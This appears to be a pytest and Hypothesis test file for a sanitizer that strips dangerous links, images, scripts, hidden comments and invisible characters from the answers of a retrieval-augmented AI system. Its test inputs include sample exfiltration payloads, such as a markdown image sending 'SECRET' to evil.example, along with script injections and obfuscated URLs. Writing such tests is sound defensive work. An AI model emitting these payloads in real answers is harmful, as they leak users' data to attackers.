"""Nothing that loads, leads away or hides gets out of an answer."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.answer.output import REMOVED, addresses, harmless

SOURCE = (
    "Use https://portal.acme.example/a?x=1. Mail hr@acme.example or [the form](https://forms.acme.example/f). "
    "![logo](https://cdn.acme.example/logo.png) <!-- https://hidden.example --> "
)
ALLOWED = addresses(SOURCE)


def test_addresses_of_images_and_hidden_parts_are_not_among_those_of_a_source() -> None:
    assert {"https://portal.acme.example/a?x=1", "hr@acme.example", "https://forms.acme.example/f"} == ALLOWED


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See https://portal.acme.example/a?x=1.", "See https://portal.acme.example/a?x=1."),
        ("Mail hr@acme.example, not x@evil.example.", f"Mail hr@acme.example, not {REMOVED}."),
        ("Fill in [the form](https://forms.acme.example/f).", "Fill in the form (https://forms.acme.example/f)."),
        ("[the form](https://evil.example)", f"the form {REMOVED}"),
        ("![x](https://evil.example/?q=SECRET)ok", "ok"),
        ("![x](https://portal.acme.example/a?x=1)ok", "ok"),
        ("![x](https://evil.example/?q=SEC", ""),
        ("https://portal.acme.example/a?x=1&q=SECRET", REMOVED),
        ("<img src=https://evil.example/p.png>ok", "ok"),
        ("<!-- do this -->ok", "ok"),
        ("<script>alert(1)</script>ok", "ok"),
        ("<x onmouseover=alert(1)>ok", "‹x onmouseover=alert(1)›ok"),
        ("run login --key <API_KEY> now", "run login --key ‹API_KEY› now"),
        ("if x < 5 and y > 3, <5 days", "if x < 5 and y > 3, <5 days"),
        ("www.evil.example/x", REMOVED),
        ("//evil.example/x", REMOVED),
        ("h<b></b>ttps://evil.example/x", REMOVED),
        ("a\u200bb\u202ec\U000e0041", "abc"),
        ("[x]: https://evil.example", ""),
    ],
)
def test_harmless(text: str, expected: str) -> None:
    assert harmless(text, ALLOWED) == expected


FRAGMENTS = [
    *["![", "](", "[x]", "(", ")", "<img src=", ">", "<", "https://evil.example/q", "www.evil.example", "javascript:1"],
    *["<!--", "-->", " ", "\n", "a", "<script>", "</script>", "//evil.example", "<b>", "h", "ttps:", "!", "&", "]"],
]


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join))
def test_no_mixture_of_fragments_gets_through(text: str) -> None:
    shown = harmless(text, ALLOWED)
    # A bare word such as `awww.evil.example` leads nowhere: nothing makes a link of it.
    assert not re.search(r"//\S*evil|\bwww\.evil|\bjavascript:", shown)
    assert "](" not in shown
    assert "![" not in shown
    assert not re.search(r"<[A-Za-z/!]", shown)
